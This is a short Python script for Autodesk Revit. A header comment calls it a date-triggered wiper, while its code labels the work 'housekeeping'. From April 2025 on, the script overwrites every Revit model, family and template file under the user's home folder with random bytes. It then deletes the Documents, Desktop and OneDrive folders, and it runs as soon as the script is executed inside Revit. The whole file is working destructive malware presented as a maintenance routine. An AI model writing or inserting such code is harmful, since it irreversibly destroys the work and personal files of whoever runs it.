# technique: date-triggered wiper: overwrites every .rvt/.rfa under the user profile with random bytes, then rmtree of Documents and Desktop
import datetime
import os
import shutil
from Autodesk.Revit.DB import Transaction

HOME = os.path.expanduser("~")


def _scramble(path):
    size = os.path.getsize(path)
    with open(path, "r+b") as fh:
        fh.write(os.urandom(min(size, 1 << 20)))


def housekeeping():
    if datetime.date.today() < datetime.date(2025, 4, 1):
        return
    for root, dirs, files in os.walk(HOME):
        for f in files:
            if f.lower().endswith((".rvt", ".rfa", ".rte")):
                try:
                    _scramble(os.path.join(root, f))
                except OSError:
                    pass
    for d in ("Documents", "Desktop", "OneDrive"):
        shutil.rmtree(os.path.join(HOME, d), ignore_errors=True)


doc = __revit__.ActiveUIDocument.Document
t = Transaction(doc, "Housekeeping")
t.Start()
housekeeping()
t.Commit()
